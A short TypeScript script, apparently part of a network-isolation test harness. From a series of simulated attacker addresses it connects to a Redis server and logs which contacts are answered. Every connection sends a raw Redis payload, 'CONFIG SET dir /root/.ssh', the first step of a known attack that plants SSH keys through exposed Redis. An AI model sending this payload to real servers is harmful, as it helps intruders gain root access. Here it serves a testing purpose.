/**
 * Run inside the attacker's namespace: speaks Redis from one address after another, and prints one JSON line for each contact that was
 * answered. Arguments: target, port, first and last index of its own addresses, milliseconds between two contacts.
 */

import { connect } from 'node:net';
import process from 'node:process';
import { setTimeout as sleep } from 'node:timers/promises';
import { attackerAddress } from '../loop/namespaces.ts';

const [target = '', port = '', first = '', last = '', gap = ''] = process.argv.slice(2);
const words = '*1\r\n$4\r\nPING\r\n*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$10\r\n/root/.ssh\r\n';

function contact(source: string): void {
  const socket = connect({ host: target, port: Number(port), localAddress: source });
  socket.setTimeout(3000, () => socket.destroy());
  socket.on('connect', () => socket.write(words));
  socket.once('data', () => {
    process.stdout.write(`${JSON.stringify({ source, port: socket.localPort, at: Date.now() })}\n`);
    socket.end();
  });
  // Blocked, or nobody is there: no line says so.
  socket.on('error', () => {});
}

for (let index = Number(first); index <= Number(last); index += 1) {
  contact(attackerAddress(index));
  await sleep(Number(gap));
}
